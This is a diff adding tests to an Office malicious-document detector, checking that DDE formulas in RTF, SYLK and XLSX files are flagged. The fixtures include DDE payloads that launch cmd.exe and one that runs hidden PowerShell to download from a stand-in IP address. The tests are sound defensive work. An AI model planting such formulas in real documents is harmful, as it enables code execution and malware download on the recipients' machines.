@@ -161,3 +161,14 @@ def test_rtf_field_split_over_groups_is_flagged_and_ordinary_fields_are_not():
     assert findings[0].evidence["commands"] == 'DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"'
     plain = rb"{\rtf1{\field{\*\fldinst HYPERLINK \\l _Toc1 \\o quote}{\fldrslt x}}}"
     assert office_findings(DETECTOR, [("a.rtf", plain)]) == []
+
+
+def test_sylk_cell_formula_running_a_program_is_dde():
+    data = sylk(["MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"], macro_sheet=False, auto_open=False)
+    assert symbols_of(office_findings(DETECTOR, [("a.slk", data)])) == {"OFFICE_DDE"}
+    assert office_findings(DETECTOR, [("a.slk", sylk(["SUM(R1C2:R3C2)"], macro_sheet=False, auto_open=False))]) == []
+
+
+def test_dde_formula_typed_into_an_xlsx_cell_is_flagged():
+    sheet = '<sheetData><row r="1"><c r="A1"><f>cmd|\'/c powershell -w hidden iwr http://198.51.100.2/a\'!A1</f></c></row></sheetData>'
+    assert symbols_of(office_findings(DETECTOR, [("a.xlsx", xlsx(sheet_xml=sheet))])) == {"OFFICE_DDE"}
